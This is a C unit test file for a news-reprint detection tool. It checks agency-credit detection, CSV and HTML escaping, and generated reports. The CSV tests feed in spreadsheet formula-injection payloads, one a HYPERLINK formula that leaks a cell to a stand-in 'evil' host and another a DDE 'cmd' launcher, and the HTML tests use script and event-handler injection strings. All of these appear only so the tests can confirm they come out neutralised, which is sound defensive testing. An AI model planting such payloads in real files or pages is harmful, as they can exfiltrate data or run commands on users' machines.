/* test_report.c: credit detection, CSV and HTML escaping, and whole reports
 * over a small database built through the library. */
#include <stdio.h>
#include <unistd.h>

#include <jansson.h>

#include "tests/testutil.h"

static int credited(const char *text, const char *title, const char *author, const char *site)
{
    rp_article a = {0};
    a.text = (char *)text;
    a.text_len = text ? strlen(text) : 0;
    a.title = (char *)title;
    a.author = (char *)author;
    return rp_report_credited(&a, site);
}

static void test_credit(void **state)
{
    (void)state;
    const char *rest = " The minister resigned on Friday after a week of protests.";
    char buf[512];
    static const struct {
        const char *lead, *site;
        int want;
    } cases[] = {
        {"LONDON (Reuters) -", "reuters.com", 1},
        {"LONDON (Reuters) -", "www.Reuters.com", 1},
        {"Reuters - ", "reuters.com", 1},
        {"Photo: REUTERS/Jane Doe.", "reuters.com", 1},
        {"The minister told Reuters that", "reuters.com", 1}, /* distinctive name */
        {"WASHINGTON (AP) \xE2\x80\x94", "apnews.com", 1},
        {"By the Associated Press.", "apnews.com", 1},
        {"PARIS (AFP) -", "afp.com", 1},
        {"Agence France-Presse reports", "afp.com", 1},
        {"(Wire)", "wire.example", 1},
        {"Source: Wire.", "wire.example", 1},
        {"First published on wire.example.", "wire.example", 1},
        {"News from www.wire.example today.", "wire.example", 1},
        {"(BBC)", "bbc.co.uk", 1},
        {"LONDON (Northern Wire) -", "northernwire.example", 1}, /* the label as words */
        {"Northern Wire - The", "northernwire.example", 1},
        {"Reporting via Northern-Wire.", "northernwire.example", 1},
        {"A northern wire fence fell.", "northernwire.example", 0}, /* words, not a tag */
        {"BERLIN (Quelle: dpa)", "dpa.com", 1},
        {"Quelle: dpa.", "dpa.com", 1},
        {"Fuente: EFE.", "efe.com", 1},
        {"Story via AP.", "apnews.com", 1},
        /* the agencies' own languages */
        {"MADRID (EFE) -", "efe.com", 1},
        {"BERLIN (dpa) -", "dpa.com", 1},
        {"PARIS (AFP) -", "afp.com", 1},
        {"selon l'AFP,", "afp.com", 1},
        {"\xE6\x96\xB0\xE5\x8D\x8E\xE7\xA4\xBE\xE5\x8C\x97\xE4\xBA\xAC\xE7\x94\xB5", "news.cn",
         1}, /* 新华社北京电, no spaces around it */
        {"\xE6\x8D\xAE\xE6\xB3\x95\xE6\x96\xB0\xE7\xA4\xBE\xE6\x8A\xA5\xE9\x81\x93", "afp.com",
         1}, /* 据法新社报道 */
        {"\xD0\x9C\xD0\x9E\xD0\xA1\xD0\x9A\xD0\x92\xD0\x90, (\xD0\xA2\xD0\x90\xD0\xA1\xD0\xA1)",
         "tass.ru", 1}, /* МОСКВА, (ТАСС) */
        {"\xE6\x96\xB0\xE5\x8D\x8E\xE7\xA4\xBE\xE5\x8C\x97\xE4\xBA\xAC\xE7\x94\xB5", "afp.com",
         0}, /* Xinhua, not AFP */
        /* no credit of the original's agency */
        {"LONDON (Reuters) -", "apnews.com", 0}, /* credits someone else */
        {"PARIS (AFP) -", "wire.example", 0},
        {"Copper wire was stolen.", "wire.example", 0}, /* the word, not a tag */
        {"A wiretap was found.", "wire.example", 0},
        {"The map app crashed.", "apnews.com", 0}, /* "ap" in prose */
        {"Read notwire.example too.", "wire.example", 0},
        {"", "reuters.com", 0},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        snprintf(buf, sizeof buf, "%s%s", cases[i].lead, rest);
        if (credited(buf, NULL, NULL, cases[i].site) != cases[i].want)
            fail_msg("case %zu: \"%s\" for %s: want %d", i, buf, cases[i].site, cases[i].want);
    }
    /* title and author count; the extraction hint alone does not */
    assert_int_equal(credited(rest, "Minister quits (Wire)", NULL, "wire.example"), 1);
    assert_int_equal(credited(rest, NULL, "Wire staff", "wire.example"), 1);
    rp_article a = {0};
    a.text = (char *)rest;
    a.text_len = strlen(rest);
    a.credits_hint = 1;
    assert_int_equal(rp_report_credited(&a, "wire.example"), 0);
    assert_int_equal(rp_report_credited(&a, NULL), 0);
    assert_int_equal(rp_report_credited(NULL, "wire.example"), 0);
}

/* The credit's place: the report quotes the words it found. */
static void test_credit_quote(void **state)
{
    (void)state;
    static const struct {
        const char *text, *site, *want;
    } cases[] = {
        {"LONDON (Northern Wire) - The minister resigned.", "northernwire.example",
         "Northern Wire"},
        {"The minister resigned. Quelle: dpa", "dpa.com", "dpa"},
        {"PARIS (AFP) - The minister resigned.", "afp.com", "AFP"},
        {"First published on wire.example today.", "wire.example", "wire.example"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        rp_article a = {0};
        a.text = (char *)cases[i].text;
        a.text_len = strlen(cases[i].text);
        rp_credit c;
        assert_int_equal(rp_report_credit(&a, cases[i].site, &c), 1);
        assert_int_equal(c.field, RP_CREDIT_TEXT);
        assert_true(c.end <= a.text_len && c.start < c.end);
        if (c.end - c.start != strlen(cases[i].want) ||
            memcmp(a.text + c.start, cases[i].want, c.end - c.start))
            fail_msg("case %zu: found \"%.*s\", want \"%s\"", i, (int)(c.end - c.start),
                     a.text + c.start, cases[i].want);
    }
    rp_article t = {0};
    t.text = (char *)"No credit here.";
    t.text_len = strlen(t.text);
    t.title = (char *)"Minister quits (Wire)";
    rp_credit c;
    assert_int_equal(rp_report_credit(&t, "wire.example", &c), 1);
    assert_int_equal(c.field, RP_CREDIT_TITLE);
    assert_int_equal(c.start, 16);
    assert_int_equal(c.end, 20);
    t.title = NULL;
    assert_int_equal(rp_report_credit(&t, "wire.example", &c), 0);
    assert_int_equal(c.field, RP_CREDIT_NONE);
}

static void csv_is(const char *in, const char *want)
{
    rp_buf b = {0};
    assert_int_equal(rp_report_csv_field(&b, in), RP_OK);
    assert_int_equal(rp_buf_terminate(&b), RP_OK);
    assert_string_equal(b.data, want);
    rp_buf_free(&b);
}

static void test_csv_field(void **state)
{
    (void)state;
    csv_is("plain title", "plain title");
    csv_is("Rates, \"big\" move\r\nagain", "\"Rates, \"\"big\"\" move\r\nagain\"");
    csv_is("a,b", "\"a,b\"");
    csv_is("line\nbreak", "\"line\nbreak\"");
    csv_is("say \"hi\"", "\"say \"\"hi\"\"\"");
    csv_is("", "");
    csv_is(NULL, "");
    /* Formula injection: neutralised with a leading quote inside the field. */
    csv_is("=HYPERLINK(\"http://evil/?leak=\"&A1,\"x\")",
           "\"'=HYPERLINK(\"\"http://evil/?leak=\"\"&A1,\"\"x\"\")\"");
    csv_is("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"");
    csv_is("@SUM(1)", "\"'@SUM(1)\"");
    csv_is("-2+3", "\"'-2+3\"");
    csv_is("\tx", "\"'\tx\"");
    csv_is("\rx", "\"'\rx\"");
    csv_is("a=b", "a=b");
    /* Control bytes escaped; C1 controls too; invalid UTF-8 made visible. */
    csv_is("red\x1b[31m\x07", "red\\x1b[31m\\x07");
    csv_is("csi\xc2\x9b"
           "2J caf\xc3\xa9",
           "csi\\u009b2J caf\xc3\xa9");
    csv_is("\x1b=1", "\\x1b=1");
    csv_is("bad\xff", "bad\\xff");
}

static void html_is(const char *in, const char *want)
{
    rp_buf b = {0};
    assert_int_equal(rp_report_html_escape(&b, in, strlen(in)), RP_OK);
    assert_int_equal(rp_buf_terminate(&b), RP_OK);
    assert_string_equal(b.data, want);
    rp_buf_free(&b);
}

static void test_html_escape(void **state)
{
    (void)state;
    html_is("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;");
    html_is("\"onmouseover=alert(1) x='y'", "&quot;onmouseover=alert(1) x=&#39;y&#39;");
    html_is("Fish & Chips", "Fish &amp; Chips");
    html_is("caf\xC3\xA9\n\tok", "caf\xC3\xA9\n\tok");
    html_is("bell\x07", "bell\xEF\xBF\xBD");
}

static void test_format_parse(void **state)
{
    (void)state;
    rp_report_format f = RP_REPORT_HTML;
    assert_int_equal(rp_report_format_parse("csv", &f), RP_OK);
    assert_int_equal(f, RP_REPORT_CSV);
    assert_int_equal(rp_report_format_parse("JSON", &f), RP_OK);
    assert_int_equal(f, RP_REPORT_JSON);
    assert_int_equal(rp_report_format_parse("pdf", &f), RP_ARG);
    assert_int_equal(rp_report_format_parse(NULL, &f), RP_ARG);
}

/* ---- whole reports over a database ---- */

static const char body[] =
    "The harbour authority approved a plan on Monday to deepen the main shipping channel so "
    "that larger container ships can reach the port without waiting for high tide. The work "
    "will take three years and cost about two hundred million, shared between the state and "
    "the port operators. Fishermen worried that dredging would disturb the mussel beds near "
    "the river mouth, and the authority promised to monitor the water quality every week. "
    "Local shops expect more visitors once the new cruise terminal opens beside the old "
    "customs house, while residents fear heavier lorry traffic on the coast road at night.";

typedef struct fixture {
    char dir[64], db[96];
    rp_db *h;
} fixture;

static void jsonl_line(FILE *f, const char *id, const char *site, const char *url,
                       const char *title, const char *published, const char *lead)
{
    json_t *o = json_object();
    json_object_set_new(o, "id", json_string(id));
    json_object_set_new(o, "site", json_string(site));
    json_object_set_new(o, "url", json_string(url));
    json_object_set_new(o, "title", json_string(title));
    if (published) json_object_set_new(o, "published", json_string(published));
    char text[2048];
    snprintf(text, sizeof text, "%s%s", lead, body);
    json_object_set_new(o, "text", json_string(text));
    char *s = json_dumps(o, JSON_COMPACT);
    fprintf(f, "%s\n", s);
    free(s);
    json_decref(o);
}

static int setup(void **state)
{
    fixture *fx = calloc(1, sizeof *fx);
    assert_non_null(fx);
    snprintf(fx->dir, sizeof fx->dir, "/tmp/rp-report-XXXXXX");
    assert_non_null(mkdtemp(fx->dir));
    char in[128];
    snprintf(in, sizeof in, "%s/in.jsonl", fx->dir);
    snprintf(fx->db, sizeof fx->db, "%s/t.db", fx->dir);
    FILE *f = fopen(in, "w");
    assert_non_null(f);
    jsonl_line(f, "orig", "wire.example", "https://wire.example/port", "Port plan approved",
               "2024-05-06T08:00:00Z", "HAMBURG (Wire) - ");
    jsonl_line(f, "credited", "daily.example", "https://daily.example/port", "Port deepening",
               "2024-05-06T10:30:00Z", "HAMBURG (Wire) - ");
    jsonl_line(f, "hostile", "evil.example", "javascript:alert(1)",
               "<script>alert(1)</script>, \"onmouseover=\nx", "2024-05-07T08:00:00Z",
               "<script>alert(1)</script> \"onmouseover= & more: ");
    jsonl_line(f, "plain", "copy.example", "https://copy.example/p", "Port news", NULL,
               "Our harbour desk reports. ");
    /* an update on the original's own site: needs no credit */
    jsonl_line(f, "update", "Wire.Example", "https://wire.example/port-update",
               "Port plan (update)", "2024-05-06T09:00:00Z", "Updated. ");
    fclose(f);
    rp_db *db = NULL;
    assert_int_equal(rp_db_open(&db, fx->db, 0), RP_OK);
    const char *paths[1] = {in};
    rp_index_opts io = {0};
    io.jobs = 1;
    rp_index_stats ist;
    char err[256];
    assert_int_equal(rp_index_paths(db, paths, 1, &io, &ist, err, sizeof err), RP_OK);
    assert_int_equal(ist.indexed, 5);
    fx->h = db;
    *state = fx;
    return 0;
}

static int teardown(void **state)
{
    fixture *fx = *state;
    rp_db_close(fx->h);
    char cmd[160];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", fx->dir);
    if (system(cmd) != 0) return -1;
    free(fx);
    return 0;
}

static void cluster(fixture *fx)
{
    rp_cluster_opts co = {0};
    co.min_score = -1.0;
    co.jobs = 1;
    rp_cluster_stats cst;
    char err[256];
    assert_int_equal(rp_cluster_run(fx->h, &co, &cst, err, sizeof err), RP_OK);
    assert_int_equal(cst.clusters, 1);
}

/* The report as a string (caller frees). */
static char *report(fixture *fx, rp_report_opts *o, rp_report_stats *st, rp_err want)
{
    char *data = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&data, &len);
    assert_non_null(f);
    char err[256];
    if (!o->since) o->since = RP_TIME_UNKNOWN;
    assert_int_equal(rp_report_write(fx->h, o, f, st, err, sizeof err), want);
    fclose(f);
    return data;
}

static void test_no_clusters(void **state)
{
    fixture *fx = *state;
    rp_report_opts o = {.format = RP_REPORT_CSV};
    rp_report_stats st;
    char *s = report(fx, &o, &st, RP_OK);
    assert_int_equal(st.stored_clusters, 0);
    assert_int_equal(st.copies, 0);
    assert_non_null(strstr(s, "cluster,original,"));
    assert_null(strstr(s, "\r\n1,")); /* the header only */
    free(s);
    o.format = RP_REPORT_HTML;
    s = report(fx, &o, &st, RP_OK);
    assert_non_null(strstr(s, "reprint cluster"));
    free(s);
}

static void test_json_rows(void **state)
{
    fixture *fx = *state;
    cluster(fx);
    rp_report_opts o = {.format = RP_REPORT_JSON, .source_site = "WWW.Wire.Example"};
    rp_report_stats st;
    char *s = report(fx, &o, &st, RP_OK);
    assert_int_equal(st.stored_clusters, 1);
    assert_int_equal(st.originals, 1);
    assert_int_equal(st.copies, 4);
    assert_int_equal(st.uncredited, 2);
    static const char *const keys[] = {
        "cluster",        "original",           "original_url",   "original_site",
        "original_title", "original_published", "copy",           "copy_url",
        "copy_site",      "copy_title",         "copy_published", "delay_hours",
        "score",          "share_copied",       "words_copied",   "credited"};
    size_t rows = 0;
    int seen_credited = 0;
    for (char *line = strtok(s, "\n"); line; line = strtok(NULL, "\n"), rows++) {
        json_error_t je;
        json_t *j = json_loads(line, 0, &je);
        assert_non_null(j);
        assert_int_equal(json_object_size(j), 16);
        /* keys in the contract's order */
        void *it = json_object_iter(j);
        for (size_t k = 0; k < 16; k++, it = json_object_iter_next(j, it))
            assert_string_equal(json_object_iter_key(it), keys[k]);
        assert_string_equal(json_string_value(json_object_get(j, "original")), "orig");
        const char *copy = json_string_value(json_object_get(j, "copy"));
        int cr = json_is_true(json_object_get(j, "credited"));
        if (cr)
            seen_credited = 1;
        else
            assert_false(seen_credited); /* uncredited first */
        assert_int_equal(cr, !strcmp(copy, "credited") || !strcmp(copy, "update"));
        double share = json_real_value(json_object_get(j, "share_copied"));
        assert_true(share > 0.8 && share <= 1.0);
        assert_true(json_integer_value(json_object_get(j, "words_copied")) > 50);
        json_t *d = json_object_get(j, "delay_hours");
        if (!strcmp(copy, "credited")) assert_true(json_real_value(d) == 2.5);
        if (!strcmp(copy, "hostile")) assert_true(json_real_value(d) == 24.0);
        if (!strcmp(copy, "plain")) {
            assert_true(json_is_null(d));
            assert_true(json_is_null(json_object_get(j, "copy_published")));
        }
        json_decref(j);
    }
    assert_int_equal(rows, 4);
    free(s);

    /* another site's originals: nothing */
    o.source_site = "daily.example";
    s = report(fx, &o, &st, RP_OK);
    assert_int_equal(st.copies, 0);
    assert_string_equal(s, "");
    free(s);

    /* one cluster by any member's id; unknown ids are RP_NOTFOUND */
    o.source_site = NULL;
    o.original_id = "plain";
    s = report(fx, &o, &st, RP_OK);
    assert_int_equal(st.copies, 4);
    free(s);
    o.original_id = "nope";
    s = report(fx, &o, &st, RP_NOTFOUND);
    free(s);

    /* --since: copies indexed before it are left out */
    o.original_id = NULL;
    assert_int_equal(rp_time_parse("2999-01-01", &o.since), RP_OK);
    s = report(fx, &o, &st, RP_OK);
    assert_int_equal(st.copies, 0);
    free(s);
    assert_int_equal(rp_time_parse("2000-01-01", &o.since), RP_OK);
    s = report(fx, &o, &st, RP_OK);
    assert_int_equal(st.copies, 4);
    free(s);
}

static void test_csv_report(void **state)
{
    fixture *fx = *state;
    cluster(fx);
    rp_report_opts o = {.format = RP_REPORT_CSV};
    rp_report_stats st;
    char *s = report(fx, &o, &st, RP_OK);
    /* header + 4 rows, CRLF ends; the hostile title quoted with its quote
     * doubled and its newline kept inside the field */
    assert_true(!strncmp(s, "cluster,original,original_url,", 30));
    assert_non_null(strstr(s, ",credited\r\n"));
    assert_non_null(strstr(s, ",\"<script>alert(1)</script>, \"\"onmouseover=\nx\","));
    size_t crlf = 0;
    for (char *p = s; (p = strstr(p, "\r\n")); p += 2)
        crlf++;
    assert_int_equal(crlf, 5);
    free(s);
}

static void test_html_report(void **state)
{
    fixture *fx = *state;
    cluster(fx);
    rp_report_opts o = {
        .format = RP_REPORT_HTML, .source_site = "wire.example", .db_label = "<db>"};
    rp_report_stats st;
    char *s = report(fx, &o, &st, RP_OK);
    assert_true(!strncmp(s, "<!DOCTYPE html>", 15));
    assert_non_null(strstr(s, "</html>\n"));
    /* nothing from the data reaches the page unescaped: the one script is
     * the page's own filter, at the end */
    char *js = strstr(s, "<script");
    assert_non_null(js);
    assert_true(
        !strncmp(js, "<script>(function(){var f=document.getElementById('site-filter')", 64));
    assert_null(strstr(js + 1, "<script"));
    assert_null(strstr(s, "\"onmouseover"));
    assert_null(strstr(s, "href=\"javascript"));
    assert_null(strstr(s, "<db>"));
    assert_non_null(strstr(s, "&lt;script&gt;alert(1)&lt;/script&gt;, &quot;onmouseover="));
    assert_non_null(strstr(s, "&amp; more"));
    assert_non_null(strstr(s, "<mark"));
    assert_non_null(strstr(s, "href=\"https://wire.example/port\""));
    assert_null(strstr(s, "<link") ? strstr(s, "<link") : strstr(s, "src="));
    /* four copies, each with the original and the copy side by side */
    size_t copies = 0;
    for (char *p = s; (p = strstr(p, "<article class=\"copy")); p++)
        copies++;
    assert_int_equal(copies, 4);
    /* the shared body is marked: some mark holds a long stretch of it, on
     * both sides of each of the four copies */
    size_t marked = 0;
    for (char *p = s; (p = strstr(p, "<mark")); p++) {
        char *end = strstr(p, "</mark>");
        assert_non_null(end);
        char *hit = strstr(p, "shipping channel so that larger container ships");
        if (hit && hit < end) marked++;
    }
    assert_int_equal(marked, 8);
    free(s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_credit),
        cmocka_unit_test(test_credit_quote),
        cmocka_unit_test(test_csv_field),
        cmocka_unit_test(test_html_escape),
        cmocka_unit_test(test_format_parse),
        cmocka_unit_test_setup_teardown(test_no_clusters, setup, teardown),
        cmocka_unit_test_setup_teardown(test_json_rows, setup, teardown),
        cmocka_unit_test_setup_teardown(test_csv_report, setup, teardown),
        cmocka_unit_test_setup_teardown(test_html_report, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
